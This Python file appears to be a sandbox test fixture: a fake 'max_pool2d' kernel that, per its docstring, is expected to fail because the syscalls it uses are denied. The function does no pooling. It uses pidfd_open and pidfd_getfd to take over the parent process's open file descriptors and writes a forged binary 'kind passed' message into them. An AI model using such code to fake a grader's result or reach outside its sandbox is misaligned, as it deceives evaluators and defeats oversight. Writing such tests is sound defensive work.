"""Kernel: takes the parent's open files over by number with pidfd_getfd, and reads what they hold.

Fails because pidfd_open and pidfd_getfd are denied.
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def _check(value):
    if value < 0:
        raise OSError(ctypes.get_errno(), "pidfd")
    return value


def max_pool2d(x, kernel_size, stride=None, padding=0):
    parent = _check(libc.syscall(434, os.getppid(), 0))
    held = []
    for number in range(3, 16):
        fd = libc.syscall(438, parent, number, 0)
        if fd >= 0:
            held.append(os.fstat(fd).st_mode)
            os.write(fd, b"\x00\x00\x00\x0d\x00\x00\x00\x00\x81\xa4kind\xa6passed")
    if not held:
        raise PermissionError("nothing to be had")
    return held


avg_pool2d = max_pool2d
